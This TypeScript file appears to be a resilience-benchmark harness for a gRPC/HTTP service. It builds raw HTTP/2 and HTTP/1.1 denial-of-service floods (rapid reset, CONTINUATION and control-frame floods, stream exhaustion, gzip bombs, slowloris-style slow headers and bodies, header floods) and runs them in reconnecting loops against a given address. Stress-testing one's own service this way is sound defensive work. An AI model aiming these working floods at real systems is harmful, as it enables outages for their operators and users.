import { once } from "node:events";
import { connect, type Socket } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { gzipSync } from "node:zlib";
import { FRAME, frame, literals } from "../../bench/support/grpc-connection.ts";
import { ServiceAccountService } from "../../gen/keyturn/v1/service_account_service_pb.ts";

/** What a client does that means no good, over and over. */
export interface Flood {
  readonly name: string;
  readonly door: "grpc" | "http";
  readonly connections: number;
  /** Sent as soon as there is a connection. */
  readonly opening: Buffer;
  /** What comes next, as long as it lasts; none: the connection is only held. */
  readonly next?: (stream: () => number) => Buffer;
  /** Between two of these. */
  readonly pauseMs: number;
  /** It has to last as long to show anything. */
  readonly msMin?: number;
}

const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(FRAME.SETTINGS, 0, 0)]);
const END_STREAM = 1;
const END_HEADERS = 4;
const LIST = `/${ServiceAccountService.typeName}/ListServiceAccounts`;
/** What 60 KB can become. */
const BOMB = gzipSync(Buffer.alloc(50 * 2 ** 20), { level: 9 });

const repeat = (count: number, make: () => Buffer) => Buffer.concat(Array.from({ length: count }, make));
const number = (value: number) => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};

const FRAME_BYTES = 16_384;

/** The whole body of a call. */
const inFrames = (stream: number, body: Buffer): Buffer[] =>
  Array.from({ length: Math.ceil(body.length / FRAME_BYTES) }, (_, n) => {
    const part = body.subarray(n * FRAME_BYTES, (n + 1) * FRAME_BYTES);
    return frame(FRAME.DATA, (n + 1) * FRAME_BYTES >= body.length ? END_STREAM : 0, stream, part);
  });

/** @param token of a caller who may make calls: what a stranger may not even begin would show little. */
export function floods(token: string): Flood[] {
  const headers = literals({
    ":method": "POST",
    ":scheme": "http",
    ":path": LIST,
    ":authority": "localhost",
    te: "trailers",
    "content-type": "application/grpc",
    authorization: `Bearer ${token}`,
  });
  const packed = Buffer.concat([headers, literals({ "grpc-encoding": "gzip" })]);
  const open = (stream: number, flags = END_HEADERS, block = headers) =>
    frame(FRAME.HEADERS, flags, stream, block);
  const empty = Buffer.alloc(5);
  const grpc = (name: string, next: Flood["next"], more: Partial<Flood> = {}): Flood => ({
    name,
    door: "grpc",
    connections: 2,
    opening: PREFACE,
    pauseMs: 1,
    ...(next && { next }),
    ...more,
  });
  const web = (name: string, opening: string | Buffer, next: string, more: Partial<Flood> = {}): Flood => ({
    name,
    door: "http",
    connections: 200,
    opening: Buffer.from(opening as string),
    pauseMs: 50,
    ...(next === "" ? {} : { next: () => Buffer.from(next) }),
    ...more,
  });
  const post = `POST ${LIST} HTTP/1.1\r\nhost: a\r\nauthorization: Bearer ${token}\r\ncontent-type: application/json\r\n`;
  const bomb = Buffer.concat([Buffer.from([1]), number(BOMB.length), BOMB]);
  return [
    grpc(
      "rapid reset",
      (stream) =>
        repeat(20, () => {
          const id = stream();
          const data = frame(FRAME.DATA, END_STREAM, id, empty);
          return Buffer.concat([open(id), data, frame(FRAME.RST_STREAM, 0, id, number(8))]);
        }),
      { connections: 1, pauseMs: 10 },
    ),
    grpc(
      "CONTINUATION",
      () => frame(FRAME.CONTINUATION, 0, 1, literals({ [`x-${"y".repeat(100)}`]: "z".repeat(8_000) })),
      {
        opening: Buffer.concat([PREFACE, open(1, 0)]),
      },
    ),
    grpc("SETTINGS", () => repeat(200, () => frame(FRAME.SETTINGS, 0, 0))),
    grpc("PING", () => repeat(300, () => frame(FRAME.PING, 0, 0, Buffer.alloc(8)))),
    grpc("WINDOW_UPDATE", () => repeat(300, () => frame(FRAME.WINDOW_UPDATE, 0, 0, number(1)))),
    grpc("PRIORITY", () => repeat(300, () => frame(FRAME.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 3, 1])))),
    grpc("empty DATA", () => repeat(300, () => frame(FRAME.DATA, 0, 1)), {
      opening: Buffer.concat([PREFACE, open(1)]),
    }),
    grpc("5,000 streams", undefined, {
      connections: 50,
      opening: Buffer.concat([PREFACE, ...Array.from({ length: 100 }, (_, n) => open(2 * n + 1))]),
    }),
    grpc(
      "answers that are not taken",
      (stream) =>
        repeat(10, () => {
          const id = stream();
          return Buffer.concat([open(id), frame(FRAME.DATA, END_STREAM, id, empty)]);
        }),
      {
        opening: Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]))]),
        pauseMs: 20,
      },
    ),
    grpc("large headers", (stream) =>
      open(
        stream(),
        END_HEADERS | END_STREAM,
        Buffer.concat([headers, literals({ "x-large": "x".repeat(14_000) })]),
      ),
    ),
    // One a connection, for a second one would not fit into its window.
    grpc("gzip bombs", undefined, {
      msMin: 3_000,
      connections: 24,
      opening: Buffer.concat([PREFACE, open(1, END_HEADERS, packed), ...inFrames(1, bomb)]),
    }),
    grpc("noise", () => Buffer.alloc(4_096, 0xa5)),
    web("slow headers", "GET / HTTP/1.1\r\nhost: a\r\nx: ", "y"),
    web("slow bodies", `${post}content-length: 60000\r\n\r\n{`, " "),
    web("connections that say nothing", "", ""),
    web("pipelined requests", "", "GET /nowhere HTTP/1.1\r\nhost: a\r\n\r\n".repeat(50), {
      connections: 4,
      pauseMs: 5,
    }),
    web(
      "gzip bombs over HTTP",
      Buffer.concat([
        Buffer.from(`${post}content-encoding: gzip\r\ncontent-length: ${BOMB.length}\r\n\r\n`),
        BOMB,
      ]),
      "",
      {
        connections: 20,
      },
    ),
    web(
      "chunks of one byte",
      `${post}transfer-encoding: chunked\r\n\r\n`,
      `1;${"e".repeat(1_000)}\r\n \r\n`.repeat(20),
      { connections: 20, pauseMs: 5 },
    ),
    web("two thousand headers", "GET / HTTP/1.1\r\nhost: a\r\n", `${"a: b\r\n".repeat(2_000)}\r\n`, {
      connections: 4,
      pauseMs: 5,
    }),
  ];
}

/** What came of one flood. */
export interface Flooded {
  readonly sentBytes: number;
  /** How often the server had enough and cut a connection, after which the next one came. */
  readonly cuts: number;
}

/** Goes on until it is over. */
export async function carryOutFlood(flood: Flood, address: string, isOver: () => boolean): Promise<Flooded> {
  const [host = "", port] = address.split(":");
  let [sentBytes, cuts] = [0, 0];
  async function connection(): Promise<void> {
    const socket = connect({ host, port: Number(port) });
    socket
      .on("error", () => {})
      .setMaxListeners(0)
      .resume();
    let last = -1;
    const stream = () => {
      last += 2;
      return last;
    };
    try {
      await write(socket, flood.opening);
      sentBytes += flood.opening.length;
      while (!isOver() && !socket.destroyed && !socket.readableEnded) {
        if (flood.next !== undefined) {
          const bytes = flood.next(stream);
          sentBytes += bytes.length;
          await write(socket, bytes);
        }
        await delay(flood.pauseMs);
      }
    } finally {
      if (!isOver()) cuts += 1;
      socket.destroy();
    }
  }
  const again = async () => {
    while (!isOver()) {
      await connection();
      // Whoever is thrown out comes again, and not at once.
      await delay(100);
    }
  };
  await Promise.all(Array.from({ length: flood.connections }, again));
  return { sentBytes, cuts };
}

const PATIENCE_MS = 500;

/** Resolves when the other side takes more, or has gone, or takes nothing for a while. */
async function write(socket: Socket, bytes: Buffer): Promise<void> {
  if (socket.destroyed || bytes.length === 0 || socket.write(bytes)) return;
  const over = new AbortController();
  const { signal } = over;
  const onClose = () => over.abort();
  socket.once("close", onClose);
  const taken = once(socket, "drain", { signal });
  await Promise.race([taken, delay(PATIENCE_MS, undefined, { signal })]).catch(() => {});
  socket.off("close", onClose);
  over.abort();
  await taken.catch(() => {});
}
